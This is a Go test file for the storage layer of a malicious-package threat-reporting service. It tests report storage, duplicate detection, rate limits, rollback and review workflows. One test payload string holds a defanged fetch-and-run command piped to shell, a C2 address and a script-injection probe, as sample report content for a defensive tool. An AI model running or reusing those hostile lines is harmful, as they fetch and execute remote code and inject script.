package storagetest

import (
	"errors"
	"fmt"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/threatd/threatd/core"
	"github.com/threatd/threatd/core/coretest"
	"github.com/threatd/threatd/core/port"
)

func now() time.Time { return time.Now().UTC().Truncate(time.Microsecond) }

// report builds a valid pending report the way the submit use case does,
// with its indicators derived (core.Derive) as the daemon sends them.
func report(t *testing.T, submitter string, typ core.ReportType, registry, identifier string) core.Threat {
	t.Helper()
	s := core.Submission{ReportType: ptr(string(typ)), ResourceIdentifier: &identifier, ThreatDescription: ptr("contract test report")}
	if registry != "" {
		s.Registry = &registry
	}
	th, err := core.NewThreat(s, now())
	if err != nil {
		t.Fatal(err)
	}
	th.ID, th.Status, th.SubmitterID = uuid.NewString(), core.StatusPending, submitter
	th.CreatedAt, th.UpdatedAt = now(), now()
	return core.Derive(th)
}

func ptr(s string) *string { return &s }

// create stores reports as pending, failing the test on any error.
func create(t *testing.T, s port.Store, ths ...core.Threat) {
	t.Helper()
	for _, th := range ths {
		if err := s.CreateThreat(ctx(t), core.SubmittedThreat{Threat: core.Derive(th), Policy: noLimits}); err != nil {
			t.Fatalf("creating %s: %v", th.ResourceIdentifier, err)
		}
	}
}

var noLimits = core.SubmitPolicy{}

func user(t *testing.T, s port.Store, email string) core.User {
	t.Helper()
	u, err := s.CreateUser(ctx(t), newUser(email))
	if err != nil {
		t.Fatal(err)
	}
	return u
}

func testThreatRoundTrip(t *testing.T, b Backend) {
	s := open(t, b, dbName(t))
	c := ctx(t)
	u := user(t, s, "sub@example.com")
	first, last := time.Date(2026, 1, 2, 3, 4, 5, 6000, time.UTC), time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	n := int64(987654321)
	payload := "# Stage 2\n\n```js\nrequire('child_process').exec(\"curl hxxps://evil[.]example/x | sh\")\n```\n\nC2: 198[.]51[.]100[.]7 — Ünïcödé ✓ <script>alert(1)</script>"
	in := report(t, u.ID, core.TypePackage, "pypi", "Evil_Pkg")
	in.Details = core.Details{
		ThreatDescription: "Exfiltrates credentials", PayloadDescription: payload, PackageName: "evil-pkg",
		Publisher: "Mallory", SeverityLevel: core.SeverityCritical, EvidenceReferences: "https://a.example/1|https://b.example/2",
		ContactEmail: "r@example.org", Tags: []string{"stealer", "campaign-x"}, VersionInfo: "1.0.0, 1.0.1",
		FirstSeen: &first, LastSeen: &last, OSVAdvisoryURL: "https://osv.dev/vulnerability/MAL-2026-1",
		Contributors: []string{"alice", "bob"}, DownloadCount: &n,
	}
	coretest.Fill(&in.Details) // any field not named above
	if err := s.CreateThreat(c, core.SubmittedThreat{Threat: in, Policy: noLimits}); err != nil {
		t.Fatal(err)
	}
	got, err := s.GetThreat(c, in.ID)
	if err != nil {
		t.Fatal(err)
	}
	th, d := got, got.Details
	if th.ID != in.ID || th.CanonicalKey != "package:pypi:evil-pkg" || th.Status != core.StatusPending || th.SubmitterID != u.ID ||
		th.Registry != "pypi" || th.ResourceIdentifier != "Evil_Pkg" || th.ReportType != core.TypePackage || th.VerifiedAt != nil ||
		!th.CreatedAt.Equal(in.CreatedAt) {
		t.Fatalf("identity read back: %+v", th)
	}
	// Every field of the details comes back as it went in.
	if !reflect.DeepEqual(d, in.Details) {
		t.Fatalf("details read back differ:\n got %+v\nwant %+v", d, in.Details)
	}
	// Absent optional fields come back absent, arrays empty (never nil).
	bare := report(t, u.ID, core.TypeURL, "", "https://evil.example/x")
	if err := s.CreateThreat(c, core.SubmittedThreat{Threat: bare, Policy: noLimits}); err != nil {
		t.Fatal(err)
	}
	b2, _ := s.GetThreat(c, bare.ID)
	if b2.Registry != "" || b2.Details.Tags == nil || len(b2.Details.Tags) != 0 || b2.Details.Contributors == nil ||
		b2.Details.DownloadCount != nil || b2.Details.FirstSeen != nil || b2.Details.Publisher != "" {
		t.Fatalf("bare report: %+v", b2)
	}
	if _, err := s.GetThreat(c, uuid.NewString()); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("unknown id: %v", err)
	}
	// GetThreats: the same records in one call, unknown ids left out.
	many, err := s.GetThreats(c, []string{uuid.NewString(), bare.ID, in.ID, in.ID, `x", "` + bare.ID, `\"}`, "{", ""})
	if err != nil || len(many) != 2 {
		t.Fatalf("GetThreats: %d reports, %v", len(many), err)
	}
	for _, th := range many {
		want := got
		if th.ID == bare.ID {
			want = b2
		}
		// GetThreats is the record cache's read: the reports without
		// their indicators.
		want.IOCs = nil
		if !reflect.DeepEqual(th, want) {
			t.Fatalf("GetThreats %s:\n got %+v\nwant %+v", th.ID, th, want)
		}
	}
	if none, err := s.GetThreats(c, nil); err != nil || len(none) != 0 {
		t.Fatalf("GetThreats(nil) = %v, %v", none, err)
	}
	if _, err := s.GetThreats(c, make([]string, core.MaxGetThreats+1)); !errors.Is(err, core.ErrInvalid) {
		t.Fatalf("GetThreats over the bound: %v", err)
	}
	events, err := s.ReviewEvents(c, in.ID)
	if err != nil || len(events) != 1 || events[0].Action != "submit" || events[0].To != core.StatusPending || events[0].ActorID != u.ID || events[0].ActorName != u.Name {
		t.Fatalf("submit event: %+v %v", events, err)
	}
	if st, _ := s.Stats(c); st.Threats != 2 {
		t.Fatalf("threats = %d", st.Threats)
	}
}

func testDuplicates(t *testing.T, b Backend) {
	s := open(t, b, dbName(t))
	c := ctx(t)
	u := user(t, s, "dup@example.com")
	first := report(t, u.ID, core.TypePackage, "npm", "LoDash")
	if err := s.CreateThreat(c, core.SubmittedThreat{Threat: first, Policy: noLimits}); err != nil {
		t.Fatal(err)
	}
	// Pending counts.
	err := s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, u.ID, core.TypePackage, "npm", "lodash"), Policy: noLimits})
	var ce *core.ConflictError
	if !errors.As(err, &ce) || ce.Meta["id"] != first.ID || ce.Meta["status"] != "pending" || ce.Meta["package_name"] != "LoDash" || ce.Meta["registry"] != "npm" {
		t.Fatalf("duplicate of a pending report: %v %+v", err, ce)
	}
	// Another registry is another package.
	if err := s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, u.ID, core.TypePackage, "pypi", "lodash"), Policy: noLimits}); err != nil {
		t.Fatalf("same name, other registry: %v", err)
	}
	// Verified counts.
	if _, err := s.ReviewThreat(c, core.Review{ThreatID: first.ID, Decision: core.DecisionVerify, ActorName: "threatd", At: now()}); err != nil {
		t.Fatal(err)
	}
	err = s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, u.ID, core.TypePackage, "npm", "LODASH"), Policy: noLimits})
	if !errors.As(err, &ce) || ce.Meta["status"] != "verified" {
		t.Fatalf("duplicate of a verified report: %v", err)
	}
	// Rejected does not.
	if _, err := s.ReviewThreat(c, core.Review{ThreatID: first.ID, Decision: core.DecisionReject, Note: "withdrawn", ActorName: "threatd", At: now()}); err != nil {
		t.Fatal(err)
	}
	again := report(t, u.ID, core.TypePackage, "npm", "lodash")
	if err := s.CreateThreat(c, core.SubmittedThreat{Threat: again, Policy: noLimits}); err != nil {
		t.Fatalf("resubmitting after withdrawal: %v", err)
	}
	// Non-package duplicates: the canonical identifier is named.
	d := report(t, u.ID, core.TypeDomain, "", "Evil.Example.com.")
	if err := s.CreateThreat(c, core.SubmittedThreat{Threat: d, Policy: noLimits}); err != nil {
		t.Fatal(err)
	}
	err = s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, u.ID, core.TypeDomain, "", "evil.example.com"), Policy: noLimits})
	if !errors.As(err, &ce) || ce.Meta["package_name"] != "evil.example.com" || ce.Meta["registry"] != "" || ce.Meta["report_type"] != "domain" {
		t.Fatalf("domain duplicate: %v %+v", err, ce)
	}
}

func testConcurrentDuplicates(t *testing.T, b Backend) {
	s := open(t, b, dbName(t))
	c := ctx(t)
	var users []core.User
	for i := range 20 {
		users = append(users, user(t, s, fmt.Sprintf("c%d@example.com", i)))
	}
	ok, confl, other := race(20, func(i int) error {
		err := s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, users[i].ID, core.TypePackage, "npm", "race-pkg"), Policy: noLimits})
		return err
	}, core.ErrConflict)
	if ok != 1 || confl != 19 || len(other) > 0 {
		t.Fatalf("20 concurrent identical submissions: %d created, %d conflicts, others %v", ok, confl, other)
	}
	if st, _ := s.Stats(c); st.Threats != 1 {
		t.Fatalf("threats stored: %d", st.Threats)
	}
}

// race runs n calls at once and counts successes, errors matching want, and others.
func race(n int, fn func(i int) error, want error) (ok, matched int, other []error) {
	var (
		wg sync.WaitGroup
		mu sync.Mutex
	)
	start := make(chan struct{})
	for i := range n {
		wg.Go(func() {
			<-start
			err := fn(i)
			mu.Lock()
			defer mu.Unlock()
			switch {
			case err == nil:
				ok++
			case errors.Is(err, want):
				matched++
			default:
				other = append(other, err)
			}
		})
	}
	close(start)
	wg.Wait()
	return ok, matched, other
}

var capPolicy = core.SubmitPolicy{MaxUnverified: 3, VerifiedToLift: 3}

func testNewUserCap(t *testing.T, b Backend) {
	s := open(t, b, dbName(t))
	c := ctx(t)
	u := user(t, s, "new@example.com")
	var ids []string
	for i := range 3 {
		th := report(t, u.ID, core.TypeDomain, "", fmt.Sprintf("d%d.example.com", i))
		if err := s.CreateThreat(c, core.SubmittedThreat{Threat: th, Policy: capPolicy}); err != nil {
			t.Fatalf("report %d: %v", i, err)
		}
		ids = append(ids, th.ID)
	}
	err := s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, u.ID, core.TypeDomain, "", "d3.example.com"), Policy: capPolicy})
	var capErr *core.NewUserCapError
	if !errors.As(err, &capErr) || capErr.Unverified != 3 || capErr.Verified != 0 || capErr.MaxUnverified != 3 {
		t.Fatalf("4th pending report: %v %+v", err, capErr)
	}
	// The cap comes before the duplicate check.
	err = s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, u.ID, core.TypeDomain, "", "d0.example.com"), Policy: capPolicy})
	if !errors.As(err, &capErr) {
		t.Fatalf("cap must be checked before duplicates: %v", err)
	}
	// Verifying all three lifts the cap.
	for _, id := range ids {
		if _, err := s.ReviewThreat(c, core.Review{ThreatID: id, Decision: core.DecisionVerify, ActorName: "threatd", At: now()}); err != nil {
			t.Fatal(err)
		}
	}
	for i := 4; i < 9; i++ {
		if err := s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, u.ID, core.TypeDomain, "", fmt.Sprintf("d%d.example.com", i)), Policy: capPolicy}); err != nil {
			t.Fatalf("after 3 verified, report %d: %v", i, err)
		}
	}
	// Withdrawing one puts the user under the cap again (5 pending, 2 verified).
	if _, err := s.ReviewThreat(c, core.Review{ThreatID: ids[0], Decision: core.DecisionReject, Note: "withdrawn", ActorName: "threatd", At: now()}); err != nil {
		t.Fatal(err)
	}
	err = s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, u.ID, core.TypeDomain, "", "d10.example.com"), Policy: capPolicy})
	if !errors.As(err, &capErr) || capErr.Verified != 2 || capErr.Unverified != 5 {
		t.Fatalf("after a withdrawal: %v %+v", err, capErr)
	}
}

func testNewUserCapConcurrent(t *testing.T, b Backend) {
	s := open(t, b, dbName(t))
	c := ctx(t)
	u := user(t, s, "burst@example.com")
	ok, capped, other := race(10, func(i int) error {
		err := s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, u.ID, core.TypeIP, "", fmt.Sprintf("192.0.2.%d", i+1)), Policy: capPolicy})
		return err
	}, core.ErrForbidden)
	if ok != 3 || capped != 7 || len(other) > 0 {
		t.Fatalf("a new user's 10 concurrent submissions: %d created, %d capped, others %v", ok, capped, other)
	}
}

func testHourlyLimitConcurrent(t *testing.T, b Backend) {
	s := open(t, b, dbName(t))
	c := ctx(t)
	u := user(t, s, "hourly@example.com")
	p := core.SubmitPolicy{HourlyLimit: 5, Now: now()}
	ok, limited, other := race(12, func(i int) error {
		err := s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, u.ID, core.TypeIP, "", fmt.Sprintf("198.51.100.%d", i+1)), Policy: p})
		return err
	}, core.ErrLimit)
	if ok != 5 || limited != 7 || len(other) > 0 {
		t.Fatalf("12 concurrent submissions under an hourly limit of 5: %d created, %d limited, others %v", ok, limited, other)
	}
	err := s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, u.ID, core.TypeIP, "", "198.51.100.200"), Policy: core.SubmitPolicy{HourlyLimit: 5, Now: now()}})
	var hl *core.HourlyLimitError
	if !errors.As(err, &hl) || hl.Limit != 5 || hl.RetryAfter <= 0 || hl.RetryAfter > time.Hour {
		t.Fatalf("hourly error: %v %+v", err, hl)
	}
	// The window slides: an hour later the same user may submit again.
	later := core.SubmitPolicy{HourlyLimit: 5, Now: now().Add(time.Hour + time.Second)}
	if err := s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, u.ID, core.TypeIP, "", "198.51.100.201"), Policy: later}); err != nil {
		t.Fatalf("an hour later: %v", err)
	}
	// The limit is per user.
	other2 := user(t, s, "other@example.com")
	if err := s.CreateThreat(c, core.SubmittedThreat{Threat: report(t, other2.ID, core.TypeIP, "", "198.51.100.202"), Policy: p}); err != nil {
		t.Fatalf("another user: %v", err)
	}
}

// testRollbackOnFailedStep makes each submission step fail through the
// test-only fault setting and checks that nothing of the report remains.
func testRollbackOnFailedStep(t *testing.T, b Backend) {
	t.Setenv("THREATD_TEST_FAULTS", "1")
	for _, step := range []string{core.StepLookup, core.StepInsertThreat, core.StepInsertDetails} {
		t.Run(step, func(t *testing.T) {
			db := dbName(t)
			s, err := b(t, db, map[string]string{"test_fail_step": step})
			if err != nil {
				t.Fatal(err)
			}
			c := ctx(t)
			u := user(t, s, "f@example.com")
			before, _ := s.Stats(c)
			th := report(t, u.ID, core.TypePackage, "npm", "faulty")
			err = s.CreateThreat(c, core.SubmittedThreat{Threat: th, Policy: noLimits})
			var se *core.StepError
			if !errors.As(err, &se) || se.Step != step || se.Error() == "" {
				t.Fatalf("got %v, want a step error in %s", err, step)
			}
			if _, err := s.GetThreat(c, th.ID); !errors.Is(err, core.ErrNotFound) {
				t.Fatalf("a trace of the failed report remains: %v", err)
			}
			after, _ := s.Stats(c)
			if after != before {
				t.Fatalf("stats changed by a failed submission: %+v → %+v", before, after)
			}
			if ev, _ := s.ReviewEvents(c, th.ID); len(ev) != 0 {
				t.Fatalf("events of a failed report: %+v", ev)
			}
			_ = s.Close()
			// The same database without the fault accepts the report.
			s2 := open(t, b, db)
			if err := s2.CreateThreat(c, core.SubmittedThreat{Threat: th, Policy: noLimits}); err != nil {
				t.Fatalf("without the fault: %v", err)
			}
		})
	}
	// Without the environment switch the setting is refused.
	t.Run("refused", func(t *testing.T) {
		t.Setenv("THREATD_TEST_FAULTS", "")
		s, err := b(t, dbName(t), map[string]string{"test_fail_step": core.StepInsertDetails})
		if err == nil {
			_ = s.Close()
			t.Fatal("test_fail_step accepted without THREATD_TEST_FAULTS=1")
		}
		if !strings.Contains(err.Error(), "THREATD_TEST_FAULTS=1") {
			t.Fatalf("refusal does not say why: %v", err)
		}
	})
}

func testReview(t *testing.T, b Backend) {
	s := open(t, b, dbName(t))
	c := ctx(t)
	u := user(t, s, "rev@example.com")
	th := report(t, u.ID, core.TypeURL, "", "https://evil.example/a")
	if err := s.CreateThreat(c, core.SubmittedThreat{Threat: th, Policy: noLimits}); err != nil {
		t.Fatal(err)
	}
	pl, err := s.ListPending(c, core.PendingQuery{Limit: 10})
	pending, total := pl.Threats, pl.Total
	if err != nil || len(pending) != 1 || total != 1 || pending[0].ID != th.ID || pending[0].Details.ThreatDescription == "" {
		t.Fatalf("pending: %+v %v", pending, err)
	}
	at := now()
	v, err := s.ReviewThreat(c, core.Review{ThreatID: th.ID, Decision: core.DecisionVerify, Note: "confirmed", ActorID: u.ID, ActorName: "Rita", At: at})
	if err != nil || v.Status != core.StatusVerified || v.VerifiedBy != "Rita" || v.VerifiedAt == nil || !v.VerifiedAt.Equal(at) {
		t.Fatalf("verify: %+v %v", v, err)
	}
	if l, _ := s.ListPending(c, core.PendingQuery{Limit: 10}); len(l.Threats) != 0 || l.Total != 0 {
		t.Fatalf("still pending: %+v", l.Threats)
	}
	if _, err := s.ReviewThreat(c, core.Review{ThreatID: th.ID, Decision: core.DecisionVerify, ActorName: "x", At: now()}); !errors.Is(err, core.ErrConflict) || !strings.Contains(err.Error(), "cannot verify a verified report") {
		t.Fatalf("verifying twice: %v", err)
	}
	if _, err := s.ReviewThreat(c, core.Review{ThreatID: th.ID, Decision: core.DecisionReject, ActorName: "x", At: now()}); !errors.Is(err, core.ErrInvalid) {
		t.Fatalf("reject without a note: %v", err)
	}
	w, err := s.ReviewThreat(c, core.Review{ThreatID: th.ID, Decision: core.DecisionReject, Note: "false positive", ActorName: "threatd", At: now()})
	if err != nil || w.Status != core.StatusRejected {
		t.Fatalf("withdraw: %+v %v", w, err)
	}
	if _, err := s.ReviewThreat(c, core.Review{ThreatID: uuid.NewString(), Decision: core.DecisionVerify, ActorName: "x", At: now()}); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("unknown id: %v", err)
	}
	ev, err := s.ReviewEvents(c, th.ID)
	if err != nil || len(ev) != 3 {
		t.Fatalf("events: %+v %v", ev, err)
	}
	want := []string{"submit:-:pending:", "verify:pending:verified:confirmed", "reject:verified:rejected:false positive"}
	for i, e := range ev {
		from := string(e.From)
		if from == "" {
			from = "-"
		}
		if got := fmt.Sprintf("%s:%s:%s:%s", e.Action, from, e.To, e.Note); got != want[i] {
			t.Fatalf("event %d = %s, want %s", i, got, want[i])
		}
	}
	if ev[1].ActorName != "Rita" || ev[1].ActorID != u.ID || ev[2].ActorName != "threatd" || ev[2].ActorID != "" {
		t.Fatalf("actors: %+v", ev)
	}
	changes, _ := s.Changes(c, core.ChangeQuery{After: 0, Limit: 1000})
	var ops []string
	for _, ch := range changes {
		if ch.EntityID == th.ID {
			ops = append(ops, ch.Op)
		}
	}
	if strings.Join(ops, ",") != "create,verify,reject" {
		t.Fatalf("feed ops for the report: %v", ops)
	}
}
